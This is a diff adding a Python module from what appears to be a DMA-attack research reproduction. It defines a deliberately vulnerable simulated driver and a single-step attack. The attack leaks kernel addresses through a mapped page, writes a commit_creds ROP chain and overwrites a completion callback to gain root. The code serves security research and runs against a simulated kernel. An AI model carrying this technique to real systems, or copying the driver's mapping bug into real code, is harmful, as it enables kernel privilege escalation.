@@ -1,0 +1,137 @@
+"""The single-step attack baseline (sections 1, 5; Thunderclap-style).
+
+"All previously reported attacks are *single-step*, with the
+vulnerability attributes present in a single page": a driver embeds its
+I/O buffer inside a larger command structure (type (a), Figure 1a) and
+maps it BIDIRECTIONAL, so one mapped page simultaneously exposes
+
+1. the structure's *self pointer* (list linkage) -- the KVA,
+2. a completion *callback pointer* -- writable at a known offset,
+3. a persistent mapping -- the window is trivial.
+
+``LegacyCmdDriver`` is the synthetic vulnerable driver (modeled on the
+FireWire/NVMe patterns SPADE flags); :func:`run_single_step` is the
+attack, which needs no compound stages at all.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.attributes import VulnerabilityAttributes
+from repro.cpu.exec import STOP_RIP
+from repro.errors import (AttackFailed, ControlFlowViolation,
+                          ExecutionFault, NxViolation)
+from repro.kaslr.leak import TEXT_LOW_MASK
+from repro.mem.accounting import AllocSite
+
+if TYPE_CHECKING:
+    from repro.sim.kernel import Kernel
+
+#: struct legacy_cmd layout (public build knowledge):
+#:   0x00  void (*done)(struct legacy_cmd *)   completion callback
+#:   0x08  struct legacy_cmd *self             list linkage (KVA leak)
+#:   0x18  char buffer[EMBED_BUF_SIZE]         the mapped I/O buffer
+CMD_DONE_OFFSET = 0x00
+CMD_SELF_OFFSET = 0x08
+CMD_OPS_OFFSET = 0x10
+CMD_BUFFER_OFFSET = 0x18
+EMBED_BUF_SIZE = 256
+CMD_STRUCT_SIZE = CMD_BUFFER_OFFSET + EMBED_BUF_SIZE
+
+
+class LegacyCmdDriver:
+    """A driver with the classic type-(a) bug: it maps ``&cmd->buffer``
+    but page granularity exposes the whole command structure."""
+
+    def __init__(self, kernel: "Kernel", device_name: str = "fw0") -> None:
+        self.kernel = kernel
+        self.device_name = device_name
+        kernel.iommu.attach_device(device_name)
+        self.cmd_kva = kernel.slab.kmalloc(
+            CMD_STRUCT_SIZE, site=AllocSite("legacy_alloc_cmd", 0x44, 0xE0))
+        paddr = kernel.addr_space.paddr_of_kva(self.cmd_kva)
+        phys = kernel.phys
+        phys.write_u64(paddr + CMD_DONE_OFFSET,
+                       kernel.symbol_address("nvme_fc_fcpio_done"))
+        phys.write_u64(paddr + CMD_SELF_OFFSET, self.cmd_kva)
+        phys.write_u64(paddr + CMD_OPS_OFFSET,
+                       kernel.symbol_address("nvme_fc_fcpio_done"))
+        # The bug: maps the embedded buffer, exposing the whole page.
+        self.iova = kernel.dma.dma_map_single(
+            device_name, self.cmd_kva + CMD_BUFFER_OFFSET, EMBED_BUF_SIZE,
+            "DMA_BIDIRECTIONAL",
+            site=AllocSite("legacy_queue_cmd", 0x9C, 0x210))
+
+    def complete_io(self):
+        """Completion path: call ``cmd->done(cmd)`` -- from memory."""
+        paddr = self.kernel.addr_space.paddr_of_kva(self.cmd_kva)
+        done = self.kernel.phys.read_u64(paddr + CMD_DONE_OFFSET)
+        return self.kernel.executor.invoke_callback(done, rdi=self.cmd_kva)
+
+
+@dataclass
+class SingleStepReport:
+    attributes: VulnerabilityAttributes
+    escalated: bool = False
+    oops: str | None = None
+    stage_log: list[str] = field(default_factory=list)
+
+
+def run_single_step(kernel: "Kernel", driver: LegacyCmdDriver,
+                    device: MaliciousDevice) -> SingleStepReport:
+    """One page read + one page write = code injection."""
+    attrs = VulnerabilityAttributes()
+    report = SingleStepReport(attributes=attrs)
+    page_iova = driver.iova & ~0xFFF
+    cmd_page_offset = (driver.iova & 0xFFF) - CMD_BUFFER_OFFSET
+    if cmd_page_offset < 0:
+        raise AttackFailed("command struct straddles the page "
+                           "(rare layout); retry", stage="layout")
+    page = device.dma_read(page_iova, 4096)
+
+    # Attribute 1 (and KASLR): both leak from the very same page.
+    self_kva = int.from_bytes(
+        page[cmd_page_offset + CMD_SELF_OFFSET:][:8], "little")
+    ops_ptr = int.from_bytes(
+        page[cmd_page_offset + CMD_OPS_OFFSET:][:8], "little")
+    for name, offset in device.knowledge.symbol_offsets.items():
+        if (ops_ptr & TEXT_LOW_MASK) == (offset & TEXT_LOW_MASK):
+            device.knowledge.text_base = ops_ptr - offset
+            report.stage_log.append(
+                f"text base {device.knowledge.text_base:#x} via leaked "
+                f"&{name} on the same page")
+            break
+    attrs.record_kva(self_kva, "struct's own list pointer on the mapped "
+                               "page (type (a))")
+    attrs.record_callback_access(
+        f"cmd->done at struct offset {CMD_DONE_OFFSET:#x}, same page")
+    attrs.record_window("mapping is persistent (BIDIRECTIONAL, long-lived)")
+
+    # Plant the ROP chain in the embedded buffer; the pivot gets the
+    # struct pointer in rdi, so the chain sits at cmd + pivot_const.
+    if device.knowledge.text_base is None:
+        report.stage_log.append("no text leak; cannot build chain")
+        return report
+    know = device.knowledge
+    chain = [know.gadget_kva("pop rdi"), 0,
+             know.symbol_kva("prepare_kernel_cred"),
+             know.gadget_kva("mov rdi, rax"),
+             know.symbol_kva("commit_creds"), STOP_RIP]
+    chain_cmd_offset = know.pivot_const  # rsp = rdi + const
+    blob = b"".join(q.to_bytes(8, "little") for q in chain)
+    device.dma_write(
+        page_iova + cmd_page_offset + chain_cmd_offset, blob)
+    device.dma_write_u64(page_iova + cmd_page_offset + CMD_DONE_OFFSET,
+                         know.gadget_kva("pivot"))
+
+    try:
+        driver.complete_io()
+    except (NxViolation, ControlFlowViolation, ExecutionFault) as exc:
+        report.oops = str(exc)
+        report.stage_log.append(f"kernel oops: {exc}")
+    report.escalated = kernel.executor.creds.is_root
+    report.stage_log.append(f"escalated={report.escalated}")
+    return report
